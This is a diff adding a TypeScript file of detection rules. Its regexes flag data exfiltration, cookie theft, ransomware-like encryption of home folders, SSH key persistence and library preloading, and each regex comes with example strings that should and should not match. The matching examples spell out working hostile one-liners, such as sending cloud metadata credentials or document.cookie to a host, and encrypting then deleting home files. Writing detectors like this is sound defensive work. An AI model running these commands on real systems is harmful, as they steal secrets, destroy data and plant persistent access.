@@ -1,0 +1,58 @@
+import { ATTACKING_SCRIPT, FETCHED_CODE, HOST_ACCESS } from './rules.ts';
+import type { Row } from './script-row.ts';
+
+/** What is carried away, taken hostage, or put where it runs again. */
+export const CARRYING_ROWS: readonly Row[] = [
+  {
+    rule: ATTACKING_SCRIPT,
+    // Names that are looked up, and say what a command gave; what a cloud tells its own machines, sent on.
+    pattern:
+      /\b(?:nslookup|dig|host|ping)\b[^\n]*(?:\$\([^)\n]{1,80}\)|`[^`\n]{1,80}`)\.\w|\b169\.254\.169\.254\b[^\n]*\|[^\n]*\b(?:curl|nc|ncat|wget)\b|\bawk\b[^\n]*\/inet\/(?:tcp|udp)\//,
+    fires: [
+      'nslookup $(printenv KEY | head -c 20).a.invalid',
+      'curl -s http://169.254.169.254/latest/meta-data/iam/ | curl -d @- http://127.0.0.1:9',
+      `awk 'BEGIN{s="/inet/tcp/0/127.0.0.1/9"}'`,
+    ],
+    quiet: [
+      'ping -c1 $(hostname -I)',
+      'curl -s http://169.254.169.254/latest/meta-data/instance-type',
+      'dig a.invalid',
+    ],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:fetch|sendBeacon|XMLHttpRequest|\.src\s*=)[^\n]{0,120}\b(?:document\.cookie|localStorage\b(?!\.getItem))/,
+    fires: ["fetch('http://127.0.0.1:9/?c=' + document.cookie)"],
+    quiet: ['const t = localStorage.getItem("theme"); fetch(url)'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    // Files of a home that become unreadable: each is packed with a key, and then removed.
+    pattern:
+      /\bfor\s+\w+\s+in\s+[^\n;]*(?:~|\$\{?HOME\}?|\/home|\/Users)[^\n]*\b(?:openssl\s+enc|gpg\s+(?:-c|--symmetric)|7z\s+a\s+-p|zip\s+-P)[^\n]*(?:&&|;)\s*(?:rm|shred)\b/,
+    fires: ['for f in ~/*; do openssl enc -k x -in "$f" -out "$f.e" && rm "$f"; done'],
+    quiet: ['for f in data/*; do openssl enc -k x -in "$f" -out "$f.e"; done'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\btee\b[^\n|;]*\bauthorized_keys\b|\bgit\s+config\b[^\n]*\bcredential\.helper\b[^\n]*![^\n]*\b(?:curl|wget|nc)\b/,
+    fires: ['cat k.pub | sudo tee -a /home/x/.ssh/authorized_keys'],
+    quiet: ['git config --global credential.helper store', 'echo x | tee log'],
+  },
+  {
+    rule: HOST_ACCESS,
+    pattern: /\bgit\s+config\s+(?:--global|--system)\s+(?:core\.hooksPath|core\.fsmonitor)\b/,
+    fires: ['git config --global core.hooksPath ~/.h'],
+    quiet: ['git config core.hooksPath .githooks', 'git config --global user.name x'],
+  },
+  {
+    rule: FETCHED_CODE,
+    // A library that every program loads, out of a place where no package puts one; a file that every shell reads first.
+    pattern:
+      /\bBASH_ENV=\S+[^\n]*\b(?:curl|wget)\b|\bLD_PRELOAD[= ]+["']?(?!(?:\/usr|\/lib|\/opt|\/nix|\$)[\w/$])(?:\.{0,2}\/)\S*\.so\b/,
+    fires: ['ENV LD_PRELOAD=/x.so', 'export LD_PRELOAD=./libx.so', 'export BASH_ENV=x; curl -o x y'],
+    quiet: ['ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'export LD_PRELOAD=$CONDA_PREFIX/lib/libx.so'],
+  },
+];
